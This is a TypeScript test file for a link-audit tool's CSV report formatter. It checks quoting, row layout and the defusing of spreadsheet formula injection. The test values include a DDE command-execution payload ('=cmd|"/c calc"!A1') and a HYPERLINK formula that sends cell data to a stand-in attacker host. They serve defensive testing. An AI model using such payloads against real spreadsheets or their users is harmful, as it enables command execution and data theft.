import { FailureReason } from '@linkaudit/core';
import { describe, expect, it } from 'vitest';
import {
  allChecks,
  auditEvents,
  auditReport,
  auditSummary,
  linkEvent,
  reportOf,
  rulesReport,
  shopReport,
} from '../test-support/reports.js';
import { csvCell, formatCsv } from './csv.js';

const options = { color: false, version: '1.0.0' };

describe('the CSV report', () => {
  it('has one row per broken or unverified occurrence, quoted as RFC 4180 says', () => {
    expect(formatCsv(shopReport, options)).toBe(
      [
        'state,reason,status_code,url,source,element,attribute,line,column,message,reference_count,suggested_fix',
        'broken,Source Attribute Missing,,,https://shop.example.com/,img,src,20,3,The src attribute is missing or empty,1,',
        'broken,Service Unavailable,503,https://cdn.example.net/logo.png,https://shop.example.com/,img,src,8,3,503 Service Unavailable,1,',
        'broken,Invalid Remote Name,,https://gone.example.org/,https://shop.example.com/about,a,href,6,1,DNS lookup failed for gone.example.org (ENOTFOUND),1,',
        'broken,Not Found,410,https://shop.example.com/moved,https://shop.example.com/about,a,href,7,1,410 Gone,1,',
        'broken,Not Found,404,https://shop.example.com/old-page,https://shop.example.com/,a,href,12,7,404 Not Found,2,',
        'broken,Not Found,404,https://shop.example.com/old-page,https://shop.example.com/about,a,href,5,1,404 Not Found,2,',
        'broken,Internal Server Error,500,"https://shop.example.com/search?q=shoes&sort=price,asc",https://shop.example.com/about,a,href,9,3,500 Internal Server Error,1,',
        'unverified,bot-protection,999,https://www.linkedin.com/company/shop,https://shop.example.com/,a,href,40,9,999 Request denied,1,',
        '',
      ].join('\r\n'),
    );
  });

  it('adds a row per broken-anchor occurrence, duplicate anchor and certificate problem', () => {
    expect(formatCsv(auditReport, options)).toBe(
      [
        'state,reason,status_code,url,source,element,attribute,line,column,message,reference_count,suggested_fix',
        'broken-anchor,,,https://shop.example.com/#contact,https://shop.example.com/about,a,href,9,1,"No element with id or name ""contact"" on https://shop.example.com/",1,',
        'broken-anchor,,,https://shop.example.com/about#team,https://shop.example.com/,a,href,14,5,"No element with id or name ""team"" on https://shop.example.com/about",2,',
        'broken-anchor,,,https://shop.example.com/about#team,https://shop.example.com/blog,a,href,3,1,"No element with id or name ""team"" on https://shop.example.com/about",2,',
        'duplicate-anchor,,,https://shop.example.com/,https://shop.example.com/,,,30,1,"The anchor ""nav"" is also defined at 5:1",,',
        'duplicate-anchor,,,https://shop.example.com/about,https://shop.example.com/about,,,40,3,"The anchor ""main"" is also defined at 12:3",,',
        'certificate,expired,,https://old.example.org/,,,,,,The certificate has expired (valid until 2024-01-31),,',
        'certificate,expires-soon,,https://cdn.example.net/,,,,,,The certificate expires in 10 days (2025-06-21),,',
        'page-rank,,,https://shop.example.com/,,,,,,"Page rank 0.400000, score 10 of 10",,',
        'page-rank,,,https://shop.example.com/contact,,,,,,"Page rank 0.250000, score 6.3 of 10",,',
        'page-rank,,,https://shop.example.com/about,,,,,,"Page rank 0.200000, score 5 of 10",,',
        'page-rank,,,https://shop.example.com/blog,,,,,,"Page rank 0.150000, score 3.8 of 10",,',
        'page-inclusion,in-sitemap,200,https://shop.example.com/,,,,,,Linked from 3 page(s): https://shop.example.com/about https://shop.example.com/blog https://shop.example.com/contact; indexable,3,',
        'page-inclusion,in-sitemap,200,https://shop.example.com/about,,,,,,"Linked from 1 page(s): https://shop.example.com/; not indexable (noindex-meta, canonical-elsewhere)",1,',
        'page-inclusion,orphan,200,https://shop.example.com/blog,,,,,,Linked from 0 page(s); indexable,0,',
        'page-inclusion,not-in-sitemap,200,https://shop.example.com/contact,,,,,,Linked from 2 page(s): https://shop.example.com/ https://shop.example.com/about; indexable,2,',
        'page-inclusion,in-sitemap,404,https://shop.example.com/gone,,,,,,Linked from 0 page(s); not indexable (status),0,',
        '',
      ].join('\r\n'),
    );
  });

  it('defuses formulas in the new rows too', () => {
    const report = reportOf(
      [
        {
          type: 'certificate',
          host: 'evil.example',
          valid: false,
          problem: 'other',
          message: '=cmd|"/c calc"!A1',
          expiresSoon: false,
        },
        {
          type: 'duplicate-anchor',
          page: 'https://shop.example.com/',
          name: '=1+2',
          first: { line: 1, column: 1 },
          duplicate: { line: 2, column: 1 },
        },
      ],
      { summary: auditSummary },
    );
    const rows = formatCsv(report, options).split('\r\n');
    expect(rows[1]).toBe(
      'duplicate-anchor,,,https://shop.example.com/,https://shop.example.com/,,,2,1,"The anchor ""=1+2"" is also defined at 1:1",,',
    );
    expect(rows[2]).toBe(`certificate,other,,https://evil.example/,,,,,,"'=cmd|""/c calc""!A1",,`);
  });

  it('leaves page sizes to the other formats; rank and inclusion rows only when asked for', () => {
    const pageLevel = auditEvents.filter((event) => event.type.startsWith('page-'));
    const csv = formatCsv(reportOf(pageLevel, { summary: auditSummary }), options);
    expect(csv).toBe(
      'state,reason,status_code,url,source,element,attribute,line,column,message,reference_count,suggested_fix\r\n',
    );
    const asked = formatCsv(reportOf(pageLevel, { summary: auditSummary }, allChecks), options);
    const states = asked
      .trimEnd()
      .split('\r\n')
      .slice(1)
      .map((line) => line.split(',')[0]);
    expect(states).toEqual([
      ...Array<string>(4).fill('page-rank'),
      ...Array<string>(5).fill('page-inclusion'),
    ]);
  });

  it('has only the header when nothing is broken', () => {
    expect(formatCsv(reportOf([]), options)).toBe(
      'state,reason,status_code,url,source,element,attribute,line,column,message,reference_count,suggested_fix\r\n',
    );
  });

  it('defuses formulas that a server or a page could smuggle into a cell', () => {
    const report = reportOf([
      linkEvent(
        'https://shop.example.com/',
        'https://shop.example.com/x',
        { element: '@evil', attribute: '-attr', line: 3, column: 4 },
        {
          state: 'broken',
          reason: FailureReason.BadRequest,
          statusCode: 400,
          message: '=HYPERLINK("https://evil.example/?"&A1,"click")',
          redirects: [],
        },
      ),
    ]);
    const row = formatCsv(report, options).split('\r\n')[1];
    expect(row).toBe(
      `broken,Bad Request,400,https://shop.example.com/x,https://shop.example.com/,'@evil,'-attr,3,4,"'=HYPERLINK(""https://evil.example/?""&A1,""click"")",1,`,
    );
  });

  it.each([
    ['=1+2', "'=1+2"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tx', "'\tx"],
    ['\r=1', `"'\r=1"`],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['plain', 'plain'],
    ['', ''],
  ])('cell %j → %j', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it('writes numbers as they are and a missing value as an empty cell', () => {
    expect(csvCell(-1)).toBe('-1');
    expect(csvCell(undefined)).toBe('');
  });
});

describe('the quality rules in the CSV report', () => {
  it('has a rule row per violation by page, the rule name as reason, with the same columns', () => {
    const h1 = (number: number) =>
      `rule,More than one h1 heading,,https://shop.example.com/blog,https://shop.example.com/blog,,,${number + 18},1,h1 number ${number} of 13: <h1>Post ${number}</h1>,,`;
    expect(formatCsv(rulesReport, options)).toBe(
      [
        'state,reason,status_code,url,source,element,attribute,line,column,message,reference_count,suggested_fix',
        'rule,Misspelt word,,https://shop.example.com/,https://shop.example.com/,,,14,9,"""shoos"": Our shoos are comfy",,',
        'rule,Title missing,,https://shop.example.com/about,https://shop.example.com/about,,,3,1,No <title> element: <head>,,',
        // A snippet that starts like a formula is defused; its line break and tab are kept, quoted.
        `rule,Misspelt word,,https://shop.example.com/about,https://shop.example.com/about,,,8,5,"'=SUM(A1) teh\n\tbest",,`,
        ...Array.from({ length: 12 }, (_, index) => h1(index + 2)),
        '',
      ].join('\r\n'),
    );
  });
});
